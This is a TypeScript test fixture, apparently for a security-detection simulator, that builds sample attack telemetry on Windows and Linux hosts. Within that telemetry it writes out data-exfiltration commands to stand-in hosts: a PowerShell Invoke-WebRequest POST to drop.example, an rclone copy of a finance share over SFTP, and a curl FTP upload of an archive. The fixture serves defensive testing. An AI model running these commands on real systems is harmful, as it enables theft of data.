import type { Activity } from '../../src/simulation/activity.ts'
import { happenings } from '../../src/simulation/happenings.ts'
import type {
  ConnectionDeed,
  FileDeed,
  LookupDeed,
  OperatingSystem,
  Scenario,
  ScenarioProcess,
} from '../../src/simulation/scenario.ts'

const process = (
  fields: Partial<ScenarioProcess> & Pick<ScenarioProcess, 'id' | 'image' | 'commandLine'>,
): ScenarioProcess => ({
  at: 0,
  isRunning: false,
  version: {},
  integrity: 'medium',
  exitCode: 0,
  files: [],
  lookups: [],
  connections: [],
  scripts: [],
  children: [],
  ...fields,
})

const connection = (fields: Partial<ConnectionDeed> & Pick<ConnectionDeed, 'to' | 'port'>): ConnectionDeed => ({
  at: 2000,
  transport: 'tcp',
  direction: 'outbound',
  state: 'established',
  bytesOut: 52_428_800,
  bytesIn: 20_480,
  duration: 60_000,
  ...fields,
})

const file = (action: FileDeed['action'], path: string, at = 1000): FileDeed => ({ at, action, path, size: 412 })

const lookup = (fields: Partial<LookupDeed> & Pick<LookupDeed, 'name'>): LookupDeed => ({
  at: 1000,
  type: 'A',
  answers: ['93.184.215.14'],
  status: 'NOERROR',
  by: 'system',
  server: '10.20.0.2',
  ...fields,
})

const MAIL = {
  helo: 'WS-LAB-01',
  from: 'a@corp.example',
  to: ['b@drop.example'],
  subject: 'report',
  isEncrypted: false,
}
const UPLOAD = {
  method: 'POST',
  host: 'drop.example',
  uri: '/in',
  userAgent: 'curl/8.4',
  status: 200,
  requestBytes: 900,
  responseBytes: 12,
}

const WINDOWS = process({
  id: 'explorer',
  image: 'C:\\Windows\\explorer.exe',
  commandLine: 'C:\\Windows\\Explorer.EXE',
  isRunning: true,
  children: [
    process({
      id: 'shell',
      at: 1000,
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine: 'powershell.exe -File "C:\\Users\\Public\\send.ps1"',
      integrity: 'high',
      version: {
        originalFileName: 'PowerShell.EXE',
        fileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
        description: 'Windows PowerShell',
        product: 'Microsoft® Windows® Operating System',
        company: 'Microsoft Corporation',
      },
      scripts: [
        {
          at: 500,
          text: 'Invoke-WebRequest -Uri http://drop.example/in -Method POST\n$x = "<&>"',
          path: 'C:\\Users\\Public\\send.ps1',
          commands: [{ name: 'Invoke-WebRequest', parameters: { Uri: 'http://drop.example/in' } }],
        },
      ],
      lookups: [
        lookup({ name: 'drop.example', at: 600 }),
        lookup({ name: 'gone.example', at: 700, status: 'NXDOMAIN', answers: [] }),
        lookup({ name: 'tunnel.example', at: 800, by: 'self' }),
      ],
      files: [
        file('create', 'C:\\Users\\Public\\Out.ZIP'),
        file('create', 'C:\\Users\\Public\\note.txt'),
        file('create', 'D:\\Tools\\send.ps1'),
        file('modify', 'C:\\Users\\Public\\note.txt', 1200),
        file('read', 'C:\\Users\\Public\\secret.docx', 1300),
        file('delete', 'C:\\Users\\Public\\tool.exe', 1400),
      ],
      children: [
        process({
          id: 'rclone',
          at: 3000,
          ends: 65_000,
          exitCode: 1,
          image: 'C:\\Users\\Public\\Rclone.exe',
          commandLine: 'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 93.184.215.14',
          version: { originalFileName: 'rclone.exe', fileVersion: '1.69.1', product: 'Rclone' },
          connections: [
            connection({ to: '93.184.215.14', port: 22, service: 'ssh', hostname: 'drop.example' }),
            connection({ to: '192.0.2.1', port: 443, at: 2100 }),
            connection({ to: '127.0.0.1', port: 8080, at: 2200, http: UPLOAD }),
            connection({ to: '93.184.215.14', port: 80, at: 2300, http: UPLOAD }),
            connection({ to: '93.184.215.15', port: 25, at: 2400, smtp: MAIL, service: 'smtp' }),
            connection({ to: '93.184.215.16', port: 21, at: 2500, state: 'refused', bytesOut: 0, bytesIn: 0 }),
            connection({ to: '10.20.3.99', port: 3389, at: 2600, direction: 'inbound' }),
            connection({ to: '93.184.215.17', port: 0, at: 2700, transport: 'icmp', bytesOut: 9000, bytesIn: 9000 }),
            connection({ to: '10.20.0.2', port: 53, at: 2800, transport: 'udp' }),
          ],
        }),
      ],
    }),
  ],
})

const POSIX = process({
  id: 'bash',
  image: '/usr/bin/bash',
  commandLine: '-bash',
  isRunning: true,
  children: [
    process({
      id: 'curl',
      at: 1000,
      ends: 9000,
      image: '/usr/bin/curl',
      commandLine: 'curl --upload-file /tmp/Out.tgz ftp://93.184.215.14/',
      files: [file('create', '/tmp/Out.tgz', 100), file('create', '/tmp/run.sh', 200)],
      lookups: [lookup({ name: 'drop.example', at: 300 })],
      connections: [connection({ to: '93.184.215.14', port: 21 })],
    }),
  ],
})

/** Something of every kind that sensors tell apart, on a host of the system. */
export function sampleActivities(os: OperatingSystem): readonly Activity[] {
  const scenario: Scenario = {
    id: `sample-${os}`,
    title: 'Everything at once',
    kind: 'attack',
    description: 'Of every kind of activity one.',
    techniques: [],
    references: [],
    start: Date.UTC(2026, 2, 2, 9, 14),
    hosts: [{ name: os === 'windows' ? 'WS-LAB-01' : 'lab-02', domain: 'corp.example', os, address: '10.20.3.17' }],
    users: [{ name: os === 'windows' ? 'J.Doe' : 'jdoe', domain: os === 'windows' ? 'CORP' : '' }],
    processes: [os === 'windows' ? WINDOWS : POSIX],
    signals: [],
    expect: {},
    evasion: { notVisible: [] },
  }
  return happenings(scenario)
}
